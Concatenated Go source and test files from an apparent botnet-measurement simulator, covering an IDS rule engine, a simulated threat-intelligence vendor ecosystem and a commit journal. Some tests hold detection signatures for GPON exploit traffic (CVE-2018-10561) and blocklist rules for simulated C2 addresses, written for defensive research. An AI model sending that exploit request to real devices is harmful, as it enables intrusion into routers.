	"net/netip"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

var at = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

func rec(proto simnet.Protocol, dst simnet.Addr, payload string) simnet.PacketRecord {
	return simnet.PacketRecord{
		Time: at, Src: simnet.AddrFrom("10.0.0.2", 4000), Dst: dst,
		Proto: proto, Payload: []byte(payload), Size: len(payload) + 40, Count: 1,
	}
}

func TestContentRuleMatches(t *testing.T) {
	r := &Rule{SID: 1, Msg: "gpon", Proto: "tcp", DstPort: 80, Content: []byte("/GponForm/diag_Form")}
	hit := rec(simnet.ProtoTCP, simnet.AddrFrom("70.0.0.1", 80), "POST /GponForm/diag_Form?images/ HTTP/1.1")
	if !r.Matches(hit) {
		t.Fatal("content rule missed matching payload")
	}
	if r.Matches(rec(simnet.ProtoTCP, simnet.AddrFrom("70.0.0.1", 80), "GET / HTTP/1.1")) {
		t.Fatal("content rule matched benign payload")
	}
	if r.Matches(rec(simnet.ProtoTCP, simnet.AddrFrom("70.0.0.1", 8080), "POST /GponForm/diag_Form")) {
		t.Fatal("content rule ignored port constraint")
	}
	if r.Matches(rec(simnet.ProtoUDP, simnet.AddrFrom("70.0.0.1", 80), "POST /GponForm/diag_Form")) {
		t.Fatal("content rule ignored proto constraint")
	}
}

func TestAddrDropRule(t *testing.T) {
	ip := netip.MustParseAddr("60.0.0.9")
	r := &Rule{SID: 2, Action: ActionDrop, Msg: "c2", Proto: "tcp", DstIP: ip}
	if !r.Matches(rec(simnet.ProtoTCP, simnet.Addr{IP: ip, Port: 23}, "")) {
		t.Fatal("blocklist rule missed its address")
	}
	if r.Matches(rec(simnet.ProtoTCP, simnet.AddrFrom("60.0.0.10", 23), "")) {
		t.Fatal("blocklist rule matched a different address")
	}
}

func TestRateRule(t *testing.T) {
	r := &Rule{SID: 3, Msg: "flood", MinPPS: 100}
	burst := simnet.PacketRecord{
		Time: at, Dst: simnet.AddrFrom("70.0.0.1", 80),
		Proto: simnet.ProtoUDP, Count: 25000, Span: time.Second, Size: 29,
	}
	if !r.Matches(burst) {
		t.Fatal("rate rule missed a 25k pps burst")
	}
	slow := burst
	slow.Count = 50
	if r.Matches(slow) {
		t.Fatal("rate rule matched a 50 pps burst")
	}
	single := rec(simnet.ProtoUDP, simnet.AddrFrom("70.0.0.1", 80), "x")
	if r.Matches(single) {
		t.Fatal("rate rule matched a single packet")
	}
}

func TestEngineAlertsAndVerdict(t *testing.T) {
	e := NewEngine([]*Rule{
		{SID: 1, Action: ActionAlert, Msg: "see", Proto: "tcp", Content: []byte("evil")},
		{SID: 2, Action: ActionDrop, Msg: "block", Proto: "tcp", DstIP: netip.MustParseAddr("60.0.0.9")},
	})
	if !e.Inspect(at, rec(simnet.ProtoTCP, simnet.AddrFrom("70.0.0.1", 80), "evil bytes")) {
		t.Fatal("alert-only match must pass")
	}
	if e.Inspect(at, rec(simnet.ProtoTCP, simnet.AddrFrom("60.0.0.9", 23), "")) {
		t.Fatal("drop match must not pass")
	}
	if len(e.Alerts) != 2 {
		t.Fatalf("alerts = %d, want 2", len(e.Alerts))
	}
	if e.Alerts[0].SID != 1 || e.Alerts[1].SID != 2 {
		t.Fatalf("alert SIDs = %d, %d", e.Alerts[0].SID, e.Alerts[1].SID)
	}
}

func TestEngineAlertCap(t *testing.T) {
	e := NewEngine([]*Rule{{SID: 1, Msg: "x", Proto: "tcp", Content: []byte("a")}})
	e.MaxAlerts = 5
	for i := 0; i < 20; i++ {
		e.Inspect(at, rec(simnet.ProtoTCP, simnet.AddrFrom("70.0.0.1", 80), "aaa"))
	}
	if len(e.Alerts) != 5 {
		t.Fatalf("alerts = %d, want capped at 5", len(e.Alerts))
	}
}

func TestRenderParseRoundTrip(t *testing.T) {
	rules := []*Rule{
		{SID: 1000001, Action: ActionDrop, Msg: "MalNet C2 60.0.0.9:23 (IP, 4 samples)", Proto: "tcp", DstIP: netip.MustParseAddr("60.0.0.9")},
		{SID: 2000001, Action: ActionAlert, Msg: "MalNet exploit CVE-2018-10561", Proto: "tcp", DstPort: 80, Content: []byte("/GponForm/diag_Form")},
		{SID: 3000001, Action: ActionAlert, Msg: "MalNet flood rate", MinPPS: 100},
	}
	text := RenderAll(rules)
	parsed, err := ParseAll(text)
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed) != len(rules) {
		t.Fatalf("parsed %d of %d", len(parsed), len(rules))
	}
	for i := range rules {
		a, b := rules[i], parsed[i]
		if a.SID != b.SID || a.Action != b.Action || a.Msg != b.Msg ||
			a.Proto != b.Proto || a.DstIP != b.DstIP || a.DstPort != b.DstPort ||
			string(a.Content) != string(b.Content) || a.MinPPS != b.MinPPS {
			t.Fatalf("rule %d differs:\n %+v\n %+v", i, a, b)
		}
	}
}

func TestParseRejectsGarbage(t *testing.T) {
	for _, bad := range []string{
		"", "# comment only is an error for Parse",
		"alert tcp any any -> any 80", // no options
		"frobnicate tcp any any -> any 80 (sid:1;)",
		"alert tcp 1.2.3.4 any -> any 80 (sid:1;)", // src constraint
		"alert tcp any any -> notanip 80 (sid:1;)",
		"alert tcp any any -> any 99999 (sid:1;)",
	} {
		if _, err := Parse(bad); err == nil {
			t.Fatalf("parsed: %q", bad)
		}
	}
}

func TestParseAllSkipsComments(t *testing.T) {
	text := "# MalNet rules\n\nalert tcp any any -> any 80 (msg:\"x\"; sid:7;)\n"
	rules, err := ParseAll(text)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != 1 || rules[0].SID != 7 {
		t.Fatalf("rules = %+v", rules)
	}
}

func TestEgressGateBlocksListedC2(t *testing.T) {
	clock := simclock.New(at)
	n := simnet.New(clock, simnet.DefaultConfig())
	c2IP := netip.MustParseAddr("60.0.0.9")
	srv := n.AddHost(c2IP)
	received := 0
	srv.ListenUDP(9, func(src, dst simnet.Addr, payload []byte) { received++ })

	e := NewEngine([]*Rule{{SID: 1, Action: ActionDrop, Msg: "c2", DstIP: c2IP}})
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	bot.Egress = e.EgressGate(clock)
	bot.SendUDP(4000, simnet.Addr{IP: c2IP, Port: 9}, []byte("call home"))
	bot.SendUDP(4000, simnet.AddrFrom("60.0.0.10", 9), []byte("elsewhere"))
	clock.RunFor(time.Second)
	if received != 0 {
		t.Fatal("blocklisted C2 received traffic")
	}
	if len(e.Alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(e.Alerts))
	}
}

func TestQuickRenderParseRoundTrip(t *testing.T) {
	f := func(sid uint16, port uint16, msgRaw, contentRaw []byte) bool {
		// Constrain msg/content to printable non-quote bytes so the
		// quoting path stays in the dialect we emit.
		clean := func(b []byte) string {
			var sb strings.Builder
			for _, c := range b {
				if c >= 0x20 && c < 0x7f && c != '"' && c != '\\' {
					sb.WriteByte(c)
				}
			}
			return sb.String()
		}
		r := &Rule{
			SID: int(sid) + 1, Action: ActionAlert, Proto: "tcp",
			DstPort: port, Msg: clean(msgRaw), Content: []byte(clean(contentRaw)),
		}
		if len(r.Content) == 0 {
			r.Content = nil
		}
		got, err := Parse(r.Render())
		if err != nil {
			return false
		}
		return got.SID == r.SID && got.Msg == r.Msg && string(got.Content) == string(r.Content) && got.DstPort == r.DstPort
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
