// Package intel simulates the VirusTotal-style threat-intelligence
// ecosystem the paper measures against: 89 vendor feeds (44 of which
// ever flag IoT C2 addresses), per-vendor coverage and detection lag,
// two-query address reputation (day of discovery vs. a later
// re-query), and per-sample AV detections feeding the AVClass2-style
// labeler.
//
// The detection dynamics are generative models calibrated to the
// paper's measurements (Table 3 miss-rates, Table 7 vendor counts,
// Figure 7 vendor-count CDF), so the pipeline can *measure back*
// those numbers through the same query mechanics the authors used.
package intel

import (
	"fmt"
	"hash/fnv"
	"math"
	"sort"
	"time"

	"malnet/internal/avclass"
	"malnet/internal/detrand"
)

// AddrKind distinguishes IP-literal C2 addresses from DNS names;
// Table 3 reports sharply worse feed coverage for DNS C2s.
type AddrKind uint8

// Address kinds.
const (
	KindIP AddrKind = iota
	KindDNS
)

// String names the kind.
func (k AddrKind) String() string {
	if k == KindDNS {
		return "DNS"
	}
	return "IP"
}

// Vendor is one threat-intelligence feed.
type Vendor struct {
	// Name is the feed name as shown on VT.
	Name string
	// Weight in [0,1] drives how often the vendor appears in an
	// address's detecting set; 0 marks the 45 feeds that never
	// flag IoT C2s.
	Weight float64
	// ExtraLag delays this vendor's verdict after the address
	// first becomes known to any feed.
	ExtraLag time.Duration
}

// Tunables shapes the generative detection model. Defaults are
// calibrated to the paper.
type Tunables struct {
	// NeverRate is the probability an address of each kind is
	// never flagged by any feed (Table 3's May-7th column: 1.5 %
	// IP, 35 % DNS).
	NeverRateIP  float64
	NeverRateDNS float64
	// DayZeroRate is the probability that a *detected* address is
	// already flagged on its submission day (backed out of
	// Table 3's same-day column).
	DayZeroRateIP  float64
	DayZeroRateDNS float64
	// LateWindow bounds how long after submission a late detection
	// lands.
	LateWindow time.Duration
	// Tier shares for the size of an address's detecting-vendor
	// set (Figure 7: ~25 % of known C2s are reported by 1–2 feeds).
	ObscureShare  float64 // |V| in 1..2
	ModerateShare float64 // |V| in 3..10
	// remainder: wide, |V| in 11..30
}

// DefaultTunables returns the paper-calibrated parameters.
func DefaultTunables() Tunables {
	return Tunables{
		NeverRateIP:    0.015,
		NeverRateDNS:   0.35,
		DayZeroRateIP:  0.867 / (1 - 0.015), // so unreported-at-day-0 is 13.3 %
		DayZeroRateDNS: 0.424 / (1 - 0.35),  // so unreported-at-day-0 is 57.6 %
		LateWindow:     45 * 24 * time.Hour,
		ObscureShare:   0.25,
		ModerateShare:  0.35,
	}
}

// entry is the service's knowledge about one C2 address.
type entry struct {
	addr      string
	kind      AddrKind
	submitted time.Time
	never     bool
	// firstDetect is when the fastest vendor flags it (valid when
	// !never).
	firstDetect time.Time
	// vendors maps vendor index -> that vendor's detection time.
	vendors map[int]time.Time
}

// sampleEntry is the service's knowledge about one binary.
type sampleEntry struct {
	sha       string
	family    string
	firstSeen time.Time
	detectors []int // vendor indices that detect it
}

// Service is the simulated intelligence aggregator.
type Service struct {
	seed    int64
	tun     Tunables
	vendors []Vendor
	entries map[string]*entry
	samples map[string]*sampleEntry
}

// NewService builds a Service with the standard vendor population
// and default tunables.
func NewService(seed int64) *Service {
	return NewServiceWith(seed, StandardVendors(), DefaultTunables())
}

// NewServiceWith builds a Service with explicit vendors and
// tunables (ablations vary these).
func NewServiceWith(seed int64, vendors []Vendor, tun Tunables) *Service {
	return &Service{
		seed:    seed,
		tun:     tun,
		vendors: vendors,
		entries: make(map[string]*entry),
		samples: make(map[string]*sampleEntry),
	}
}

// Vendors returns the vendor population.
func (s *Service) Vendors() []Vendor { return s.vendors }

// hash01 returns a deterministic uniform float64 in [0,1) from the
// service seed and the given strings.
func (s *Service) hash01(parts ...string) float64 {
	return detrand.Float01(s.seed, parts...)
}

// RegisterC2 introduces a C2 address to the ecosystem. submitted is
// the day the first binary referring to it appears in public feeds.
// Registration is idempotent: re-submissions keep the earliest date.
func (s *Service) RegisterC2(addr string, kind AddrKind, submitted time.Time) {
	if have, ok := s.entries[addr]; ok {
		if submitted.Before(have.submitted) {
			// Re-derive with the earlier date so detection timing
			// keys off first appearance.
			delete(s.entries, addr)
		} else {
			return
		}
	}
	e := &entry{addr: addr, kind: kind, submitted: submitted, vendors: map[int]time.Time{}}
	s.entries[addr] = e

	neverRate, dayZeroRate := s.tun.NeverRateIP, s.tun.DayZeroRateIP
	if kind == KindDNS {
		neverRate, dayZeroRate = s.tun.NeverRateDNS, s.tun.DayZeroRateDNS
	}
	if s.hash01(addr, "never") < neverRate {
		e.never = true
		return
	}
	if s.hash01(addr, "day0") < dayZeroRate {
		// Already known before our pipeline saw the binary.
		pre := time.Duration(s.hash01(addr, "pre") * float64(7*24*time.Hour))
		e.firstDetect = submitted.Add(-pre)
	} else {
		lateFloor := 12 * time.Hour
		late := lateFloor + time.Duration(s.hash01(addr, "late")*float64(s.tun.LateWindow-lateFloor))
		e.firstDetect = submitted.Add(late)
	}

	// Build the detecting-vendor set. Two tiers reproduce the
	// Figure 7 / Table 7 tension: ~25 % of known C2s are flagged by
	// only 1–2 feeds, yet the top feeds each flag ~80 % of all
	// addresses — so obscure addresses are picked up by (only) a
	// couple of the high-coverage feeds, while the rest are flagged
	// by each vendor independently with probability Weight.
	add := func(idx int) {
		v := s.vendors[idx]
		jit := time.Duration(s.hash01(addr, "jit", v.Name) * float64(20*24*time.Hour))
		e.vendors[idx] = e.firstDetect.Add(v.ExtraLag + jit)
	}
	if s.hash01(addr, "tier") < s.tun.ObscureShare {
		// 1–2 of the top-coverage vendors, weighted.
		type cand struct {
			idx   int
			score float64
		}
		var cands []cand
		for i, v := range s.vendors {
			if v.Weight < 0.9 {
				continue
			}
			u := s.hash01(addr, "v", v.Name)
			cands = append(cands, cand{i, math.Pow(u, 1/v.Weight)})
		}
		sort.Slice(cands, func(i, j int) bool { return cands[i].score > cands[j].score })
		size := 2
		if s.hash01(addr, "sz") < 0.25 {
			size = 1
		}
		if size > len(cands) {
			size = len(cands)
		}
		for _, c := range cands[:size] {
			add(c.idx)
		}
	} else {
		for i, v := range s.vendors {
			if v.Weight > 0 && s.hash01(addr, "v", v.Name) < v.Weight {
				add(i)
			}
		}
	}
	// The fastest vendor defines firstDetect exactly.
	fastest := -1
	for idx, t := range e.vendors {
		if fastest < 0 || t.Before(e.vendors[fastest]) {
			fastest = idx
		}
	}
	if fastest >= 0 {
		e.vendors[fastest] = e.firstDetect
	}
}

// AddressReport is a reputation query result.
type AddressReport struct {
	Addr string
	Kind AddrKind
	// Known reports whether the address was ever registered.
	Known bool
	// Malicious reports whether >= 1 vendor flags it at query time.
	Malicious bool
	// Vendors lists the names of flagging vendors at query time.
	Vendors []string
}

// QueryAddress returns the ecosystem's verdict on addr at time at —
// the paper's VT query, run once on discovery day and once on May 7.
func (s *Service) QueryAddress(addr string, at time.Time) AddressReport {
	e, ok := s.entries[addr]
	if !ok {
		return AddressReport{Addr: addr}
	}
	rep := AddressReport{Addr: addr, Kind: e.kind, Known: true}
	if e.never {
		return rep
	}
	for idx, t := range e.vendors {
		if !t.After(at) {
			rep.Vendors = append(rep.Vendors, s.vendors[idx].Name)
		}
	}
	sort.Strings(rep.Vendors)
	rep.Malicious = len(rep.Vendors) > 0
	return rep
}

// RegisterSample introduces a binary (by hash) with its ground-truth
// family. AV engines pick it up per their weights.
func (s *Service) RegisterSample(sha, family string, firstSeen time.Time) {
	if _, ok := s.samples[sha]; ok {
		return
	}
	se := &sampleEntry{sha: sha, family: family, firstSeen: firstSeen}
	for i, v := range s.vendors {
		// File-scanning coverage is much broader than C2-feed
		// coverage: even "inactive" URL-feed vendors scan files.
		p := 0.35 + 0.6*v.Weight
		if s.hash01(sha, "av", v.Name) < p {
			se.detectors = append(se.detectors, i)
		}
	}
	s.samples[sha] = se
}

// ScanSample returns per-vendor detections for a sample at query
// time — the input to the >= 5 engine corroboration check and the
// AVClass2 labeler. Mozi samples are labeled as Mirai by every
// engine, reproducing the misclassification the paper reports.
func (s *Service) ScanSample(sha string, at time.Time) []avclass.Detection {
	se, ok := s.samples[sha]
	if !ok {
		return nil
	}
	var out []avclass.Detection
	for _, idx := range se.detectors {
		v := s.vendors[idx]
		out = append(out, avclass.Detection{
			Vendor: v.Name,
			Label:  detectionLabel(se.family, v.Name),
		})
	}
	return out
}

// detectionLabel renders a vendor-flavored detection string for the
// family.
func detectionLabel(family, vendor string) string {
	shown := family
	if family == "mozi" {
		shown = "mirai" // AVClass2-unreliability reproduction
	}
	styles := []string{
		"Linux.%s.B!tr", "Trojan:Linux/%s.SM", "ELF/%s-A",
		"Linux/%s.gen", "HEUR:Backdoor.Linux.%s.b",
	}
	h := fnv.New32a()
	h.Write([]byte(vendor))
	style := styles[int(h.Sum32())%len(styles)]
	return fmt.Sprintf(style, titleCase(shown))
}

func titleCase(s string) string {
	if s == "" {
		return s
	}
	b := []byte(s)
	if b[0] >= 'a' && b[0] <= 'z' {
		b[0] -= 'a' - 'A'
	}
	return string(b)
}
