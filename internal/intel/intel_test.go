package intel

import (
	"fmt"
	"math"
	"testing"
	"time"

	"malnet/internal/avclass"
)

var (
	day0 = time.Date(2021, 6, 1, 12, 0, 0, 0, time.UTC)
	may7 = time.Date(2022, 5, 7, 0, 0, 0, 0, time.UTC)
)

func TestVendorPopulationShape(t *testing.T) {
	vendors := StandardVendors()
	if len(vendors) != 89 {
		t.Fatalf("vendors = %d, want 89 (paper: 89 feeds on VT)", len(vendors))
	}
	active, silent := 0, 0
	for _, v := range vendors {
		if v.Weight > 0 {
			active++
		} else {
			silent++
		}
	}
	if active != 44 || silent != 45 {
		t.Fatalf("active=%d silent=%d, want 44/45 (Appendix D)", active, silent)
	}
}

func TestUnknownAddressReport(t *testing.T) {
	s := NewService(1)
	rep := s.QueryAddress("198.51.100.1", day0)
	if rep.Known || rep.Malicious {
		t.Fatalf("unknown address report = %+v", rep)
	}
}

func TestRegisterIdempotentKeepsEarliest(t *testing.T) {
	s := NewService(1)
	s.RegisterC2("60.0.0.1", KindIP, day0)
	before := s.QueryAddress("60.0.0.1", may7)
	s.RegisterC2("60.0.0.1", KindIP, day0.Add(48*time.Hour))
	after := s.QueryAddress("60.0.0.1", may7)
	if len(before.Vendors) != len(after.Vendors) {
		t.Fatalf("re-registration changed verdict: %d vs %d vendors", len(before.Vendors), len(after.Vendors))
	}
}

func TestDeterministicAcrossServices(t *testing.T) {
	a := NewService(7)
	b := NewService(7)
	a.RegisterC2("60.0.0.9", KindIP, day0)
	b.RegisterC2("60.0.0.9", KindIP, day0)
	ra := a.QueryAddress("60.0.0.9", may7)
	rb := b.QueryAddress("60.0.0.9", may7)
	if len(ra.Vendors) != len(rb.Vendors) {
		t.Fatal("same seed produced different verdicts")
	}
}

// registerMany registers n addresses of a kind and returns the
// day-0 and May-7 miss rates plus the vendor-count distribution at
// May 7.
func missRates(t *testing.T, kind AddrKind, n int) (day0Miss, lateMiss float64, vendorCounts []int) {
	t.Helper()
	s := NewService(42)
	for i := 0; i < n; i++ {
		addr := fmt.Sprintf("60.%d.%d.%d", i/65536, (i/256)%256, i%256)
		if kind == KindDNS {
			addr = fmt.Sprintf("c2-%d.example.net", i)
		}
		s.RegisterC2(addr, kind, day0)
	}
	var missed0, missedLate int
	for i := 0; i < n; i++ {
		addr := fmt.Sprintf("60.%d.%d.%d", i/65536, (i/256)%256, i%256)
		if kind == KindDNS {
			addr = fmt.Sprintf("c2-%d.example.net", i)
		}
		if !s.QueryAddress(addr, day0).Malicious {
			missed0++
		}
		rep := s.QueryAddress(addr, may7)
		if !rep.Malicious {
			missedLate++
		} else {
			vendorCounts = append(vendorCounts, len(rep.Vendors))
		}
	}
	return float64(missed0) / float64(n), float64(missedLate) / float64(n), vendorCounts
}

func TestIPMissRatesMatchTable3(t *testing.T) {
	d0, late, _ := missRates(t, KindIP, 2000)
	if math.Abs(d0-0.133) > 0.03 {
		t.Fatalf("IP day-0 miss = %.3f, want ~0.133", d0)
	}
	if math.Abs(late-0.015) > 0.01 {
		t.Fatalf("IP May-7 miss = %.3f, want ~0.015", late)
	}
}

func TestDNSMissRatesMatchTable3(t *testing.T) {
	d0, late, _ := missRates(t, KindDNS, 2000)
	if math.Abs(d0-0.576) > 0.05 {
		t.Fatalf("DNS day-0 miss = %.3f, want ~0.576", d0)
	}
	if math.Abs(late-0.35) > 0.05 {
		t.Fatalf("DNS May-7 miss = %.3f, want ~0.35", late)
	}
}

func TestVendorCountCDFMatchesFigure7(t *testing.T) {
	_, _, counts := missRates(t, KindIP, 2000)
	le2 := 0
	for _, c := range counts {
		if c <= 2 {
			le2++
		}
		if c > 44 {
			t.Fatalf("a C2 flagged by %d vendors; only 44 ever flag", c)
		}
	}
	share := float64(le2) / float64(len(counts))
	if math.Abs(share-0.25) > 0.05 {
		t.Fatalf("share flagged by <=2 vendors = %.3f, want ~0.25", share)
	}
}

func TestTopVendorCountsMatchTable7Shape(t *testing.T) {
	s := NewService(42)
	const n = 1000
	for i := 0; i < n; i++ {
		s.RegisterC2(fmt.Sprintf("61.0.%d.%d", i/256, i%256), KindIP, day0)
	}
	perVendor := map[string]int{}
	for i := 0; i < n; i++ {
		rep := s.QueryAddress(fmt.Sprintf("61.0.%d.%d", i/256, i%256), may7)
		for _, v := range rep.Vendors {
			perVendor[v]++
		}
	}
	// Table 7's top vendor flags ~799/1000; shape check: best
	// vendor in [600, 900], and >= 15 vendors above 200.
	best := 0
	over200 := 0
	for _, c := range perVendor {
		if c > best {
			best = c
		}
		if c >= 200 {
			over200++
		}
	}
	if best < 600 || best > 900 {
		t.Fatalf("top vendor count = %d, want ~799", best)
	}
	if over200 < 15 {
		t.Fatalf("vendors with >=200 detections = %d, want >= 15 (Table 7 top-20)", over200)
	}
	for v, c := range perVendor {
		if c > 0 && len(v) >= 10 && v[:10] == "SilentFeed" {
			t.Fatalf("silent vendor %s flagged %d addresses", v, c)
		}
	}
}

func TestDetectionMonotonicOverTime(t *testing.T) {
	s := NewService(3)
	for i := 0; i < 200; i++ {
		s.RegisterC2(fmt.Sprintf("62.0.0.%d", i), KindIP, day0)
	}
	for i := 0; i < 200; i++ {
		addr := fmt.Sprintf("62.0.0.%d", i)
		prev := -1
		for _, at := range []time.Time{day0, day0.Add(7 * 24 * time.Hour), may7} {
			n := len(s.QueryAddress(addr, at).Vendors)
			if n < prev {
				t.Fatalf("%s: vendor count decreased over time (%d -> %d)", addr, prev, n)
			}
			prev = n
		}
	}
}

func TestScanSampleCorroboration(t *testing.T) {
	s := NewService(1)
	s.RegisterSample("sha-abc", "mirai", day0)
	dets := s.ScanSample("sha-abc", day0)
	if avclass.MaliciousCount(dets) < 5 {
		t.Fatalf("detections = %d, want >= 5 (collection threshold)", len(dets))
	}
	fam, _ := avclass.Label(dets)
	if fam != "mirai" {
		t.Fatalf("labeled %q", fam)
	}
}

func TestMoziLabeledAsMirai(t *testing.T) {
	s := NewService(1)
	s.RegisterSample("sha-mozi", "mozi", day0)
	fam, _ := avclass.Label(s.ScanSample("sha-mozi", day0))
	if fam != "mirai" {
		t.Fatalf("Mozi sample labeled %q, want mirai (documented AVClass2 failure)", fam)
	}
}

func TestScanUnknownSampleEmpty(t *testing.T) {
	s := NewService(1)
	if dets := s.ScanSample("nope", day0); dets != nil {
		t.Fatalf("unknown sample returned %d detections", len(dets))
	}
}

func TestCustomTunablesShiftMissRates(t *testing.T) {
	// The generative knobs must actually steer the model: a
	// zero-miss configuration detects everything on day 0.
	tun := DefaultTunables()
	tun.NeverRateIP = 0
	tun.DayZeroRateIP = 1
	s := NewServiceWith(5, StandardVendors(), tun)
	missed := 0
	for i := 0; i < 300; i++ {
		addr := fmt.Sprintf("64.0.%d.%d", i/256, i%256)
		s.RegisterC2(addr, KindIP, day0)
		if !s.QueryAddress(addr, day0).Malicious {
			missed++
		}
	}
	if missed != 0 {
		t.Fatalf("missed %d with day-zero certainty", missed)
	}
	// And the opposite extreme: never detected.
	tun.NeverRateIP = 1
	s2 := NewServiceWith(5, StandardVendors(), tun)
	s2.RegisterC2("65.0.0.1", KindIP, day0)
	if s2.QueryAddress("65.0.0.1", may7).Malicious {
		t.Fatal("never-rate 1.0 still detected")
	}
}

func TestVendorListIsolatedPerService(t *testing.T) {
	// Shrinking the vendor population must shrink verdicts.
	few := []Vendor{{Name: "OnlyFeed", Weight: 1.0}}
	s := NewServiceWith(5, few, DefaultTunables())
	s.RegisterC2("66.0.0.1", KindIP, day0)
	rep := s.QueryAddress("66.0.0.1", may7)
	if len(rep.Vendors) > 1 {
		t.Fatalf("vendors = %v with a one-feed population", rep.Vendors)
	}
}
