package intel

import (
	"fmt"
	"time"
)

// StandardVendors returns the 89-feed population: the top-20 feeds
// from Table 7 with weights shaped to their reported detection
// counts (per 1000 C2 IPs), 24 more that flag at least occasionally
// (44 total ever flag, per Appendix D), and 45 that never flag IoT
// C2s.
func StandardVendors() []Vendor {
	day := 24 * time.Hour
	top := []struct {
		name   string
		weight float64
		lag    time.Duration
	}{
		// Weights are the wide-tier inclusion probabilities backed
		// out of Table 7's counts: ~(count - 44)/750 per vendor.
		{"0xSI_f33d", 1.00, 0},
		{"SafeToOpen", 1.00, 6 * time.Hour},
		{"AutoShun", 1.00, 12 * time.Hour},
		{"Lumu", 1.00, 12 * time.Hour},
		{"Cyan", 1.00, 1 * day},
		{"Kaspersky", 0.99, 1 * day},
		{"PhishLabs", 0.99, 1 * day},
		{"StopBadware", 0.99, 2 * day},
		{"NotMining", 0.99, 2 * day},
		{"Netcraft", 0.94, 3 * day},
		{"Forcepoint ThreatSeeker", 0.93, 3 * day},
		{"CRDF", 0.91, 3 * day},
		{"Comodo Valkyrie Verdict", 0.87, 4 * day},
		{"Fortinet", 0.85, 4 * day},
		{"Webroot", 0.85, 4 * day},
		{"Avira", 0.70, 5 * day},
		{"CMC Threat Intelligence", 0.71, 5 * day},
		{"G-Data", 0.37, 7 * day},
		{"CyRadar", 0.46, 7 * day},
		{"ESTsecurity", 0.25, 8 * day},
	}
	out := make([]Vendor, 0, 89)
	for _, t := range top {
		out = append(out, Vendor{Name: t.name, Weight: t.weight, ExtraLag: t.lag})
	}
	// 24 occasional feeds with small weights.
	for i := 0; i < 24; i++ {
		out = append(out, Vendor{
			Name:     fmt.Sprintf("MinorFeed-%02d", i),
			Weight:   0.02 + 0.006*float64(i),
			ExtraLag: time.Duration(5+i) * day,
		})
	}
	// 45 feeds that never flag IoT C2 addresses (weight 0).
	for i := 0; i < 45; i++ {
		out = append(out, Vendor{Name: fmt.Sprintf("SilentFeed-%02d", i)})
	}
	return out
}
