package lake

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
)

// The commit journal is the lake's single source of truth for commit
// history: an append-only file of length-prefixed frames, each a JSON
// commit record sealed with its own SHA-256. Appends are fsync'd, but
// a crash can still tear the final frame mid-write — so every frame
// carries its own integrity hash, the reader stops at the first
// invalid frame (treating everything before it as the journal), and
// the writer truncates that torn tail before its next append. A torn
// tail therefore costs at most the one commit that was being written,
// whose branch head was never moved (the ref move is sequenced after
// the journal append), so a mount never observes it.
//
// Wire format (integers big-endian):
//
//	magic   8 bytes  "MALLAKE\x01" (trailing byte = version)
//	frame   repeated:
//	        4 bytes  payload length
//	        payload  JSON-encoded Commit
//	        32 bytes SHA-256 over the payload
var journalMagic = [8]byte{'M', 'A', 'L', 'L', 'A', 'K', 'E', 0x01}

// maxFrame caps a single commit record; anything claiming more is
// corruption, not data.
const maxFrame = 1 << 20

// appendFrame serializes one commit as a journal frame.
func appendFrame(buf []byte, c *Commit) ([]byte, error) {
	payload, err := json.Marshal(c)
	if err != nil {
		return nil, fmt.Errorf("lake: encoding commit %d: %w", c.ID, err)
	}
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(payload)))
	buf = append(buf, payload...)
	sum := sha256.Sum256(payload)
	return append(buf, sum[:]...), nil
}

// decodeJournal parses journal bytes into commits. validLen is the
// byte length of the longest valid prefix (magic included); torn
// reports whether trailing bytes past that prefix were discarded —
// the signature of a crash mid-append, repaired by the next writer.
// Corrupt-beyond-salvage journals (bad magic) are an error: that is
// not a torn tail but a file that was never a journal.
func decodeJournal(b []byte) (commits []*Commit, validLen int64, torn bool, err error) {
	if len(b) < len(journalMagic) || string(b[:len(journalMagic)]) != string(journalMagic[:]) {
		return nil, 0, false, fmt.Errorf("lake: bad journal magic (not a lake, or incompatible version)")
	}
	rest := b[len(journalMagic):]
	validLen = int64(len(journalMagic))
	for len(rest) > 0 {
		if len(rest) < 4 {
			return commits, validLen, true, nil
		}
		n := binary.BigEndian.Uint32(rest[:4])
		if n > maxFrame || uint64(len(rest)) < 4+uint64(n)+sha256.Size {
			return commits, validLen, true, nil
		}
		payload := rest[4 : 4+n]
		foot := rest[4+n : 4+n+sha256.Size]
		sum := sha256.Sum256(payload)
		if string(sum[:]) != string(foot) {
			return commits, validLen, true, nil
		}
		var c Commit
		if json.Unmarshal(payload, &c) != nil {
			return commits, validLen, true, nil
		}
		commits = append(commits, &c)
		frame := int64(4 + n + sha256.Size)
		validLen += frame
		rest = rest[frame:]
	}
	return commits, validLen, false, nil
}

// readJournal loads and parses the journal file.
func (l *Lake) readJournal() (commits []*Commit, validLen int64, torn bool, err error) {
	b, err := os.ReadFile(l.journalPath())
	if err != nil {
		return nil, 0, false, err
	}
	return decodeJournal(b)
}

// appendJournal durably appends one commit frame: any torn tail from
// a previous crash is truncated away first, then the frame is written
// at the end and fsync'd. The journal file itself always exists (Open
// creates it with its magic), so a missing file here is an error, not
// a fresh lake.
func (l *Lake) appendJournal(c *Commit) error {
	_, validLen, _, err := l.readJournal()
	if err != nil {
		return err
	}
	frame, err := appendFrame(nil, c)
	if err != nil {
		return err
	}
	fh, err := os.OpenFile(l.journalPath(), os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	abort := func(err error) error {
		fh.Close()
		return err
	}
	if err := fh.Truncate(validLen); err != nil {
		return abort(err)
	}
	if _, err := fh.WriteAt(frame, validLen); err != nil {
		return abort(err)
	}
	if err := fh.Sync(); err != nil {
		return abort(err)
	}
	return fh.Close()
}
