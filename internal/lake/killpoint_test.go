package lake

import (
	"fmt"
	"os"
	"sync"
	"testing"

	"malnet/internal/checkpoint"
)

// mountAndCheck re-opens the lake from disk the way the daemon does
// and asserts the branch head is a fully valid reference: the head
// commit exists in the journal, its object decodes, and Resolve over
// the whole log only ever lands on decodable objects.
func mountAndCheck(t *testing.T, dir, branch string) *Commit {
	t.Helper()
